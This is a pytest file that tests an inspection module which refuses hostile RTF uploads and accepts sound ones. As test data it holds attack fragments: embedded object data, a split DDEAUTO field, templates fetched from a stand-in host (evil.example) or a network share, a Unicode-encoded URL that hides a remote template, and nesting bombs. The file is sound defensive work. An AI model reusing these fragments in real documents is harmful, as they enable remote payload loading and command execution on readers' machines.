"""Hostile and sound RTF files."""

import pytest

from app.integrations.inspection import FileKind, RefusalCode
from tests.integrations import file_samples as make

RTF = make.rtf()
WEB_IN_CODE = "".join(f"\\u{ord(letter) - 65536}?" for letter in "http://x")
DDE = "{\\field{\\*\\fldinst{\\b\\f0 D}{\\i DEAUTO} c:\\\\\\\\windows}}"


REFUSED: dict[str, tuple[bytes, RefusalCode]] = {
    "object": (make.rtf("{\\object\\objemb{\\*\\objdata 0105}}"), RefusalCode.ACTIVE_CONTENT),
    "object data alone": (make.rtf("{\\*\\objdata 0105}"), RefusalCode.ACTIVE_CONTENT),
    "object in a binary part": (make.rtf("\\bin20 {\\*\\objdata 0105}}}}}"), RefusalCode.ACTIVE_CONTENT),
    "DDE in pieces": (make.rtf(DDE), RefusalCode.ACTIVE_CONTENT),
    "template from the web": (make.rtf("{\\*\\template http://evil.example/x}"), RefusalCode.REMOTE_CONTENT),
    "template in code": (make.rtf("{\\*\\template " + WEB_IN_CODE + "}"), RefusalCode.REMOTE_CONTENT),
    "template from a server": (make.rtf("{\\*\\template \\\\\\\\evil\\\\x}"), RefusalCode.REMOTE_CONTENT),
    "cut short": (RTF[:-1], RefusalCode.DAMAGED),
    "never ends": (b"{\\rtf1" + b"{" * 900, RefusalCode.DAMAGED),
    "deep nesting": (b"{\\rtf1" + b"{" * 2_000 + b"}" * 2_001, RefusalCode.TOO_COMPLEX),
    "too many groups": (b"{\\rtf1" + b"{}" * 500_001 + b"}", RefusalCode.TOO_COMPLEX),
    "web page behind": (RTF + make.HTML, RefusalCode.DISGUISED),
    "a second document behind": (RTF + RTF, RefusalCode.DISGUISED),
    "archive behind": (RTF + make.docx(), RefusalCode.DISGUISED),
    "swallowed by a binary part": (make.rtf("\\bin999999999 x"), RefusalCode.DAMAGED),
    "obscured start": (b"{\\rt{}}", RefusalCode.DISGUISED),
}

SOUND: dict[str, bytes] = {
    "rtf": RTF,
    "rtf with a binary picture": make.rtf("{\\pict\\bin5 }}}{{}"),
    "rtf with escaped braces": make.rtf("\\{ \\} \\\\ \\{"),
    "rtf with a local template": make.rtf("{\\*\\template C:\\\\Users\\\\jane\\\\Normal.dotm}"),
    "rtf with a page number": make.rtf("{\\field{\\*\\fldinst PAGE}}"),
    "rtf with a line behind": RTF + b"\r\n\0",
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_rtf_is_refused_for_its_reason(name: str) -> None:
    content, code = REFUSED[name]
    assert make.refusal(content, "policy.rtf") is code


@pytest.mark.parametrize("filename", [None, "policy.exe", "policy.pdf", "policy.doc"])
@pytest.mark.parametrize("name", SOUND)
def test_a_sound_rtf_is_one_whatever_its_name(name: str, filename: str | None) -> None:
    assert make.kind(SOUND[name], filename) is FileKind.RTF


def test_a_corrupted_rtf_is_accepted_or_refused_but_never_breaks() -> None:
    """Flipped bytes and truncation give a type or a refusal; `refusal` raises for anything else."""
    answers = {make.refusal(spoilt, "policy.rtf") for spoilt in make.spoilt(RTF)}
    assert RefusalCode.DAMAGED in answers
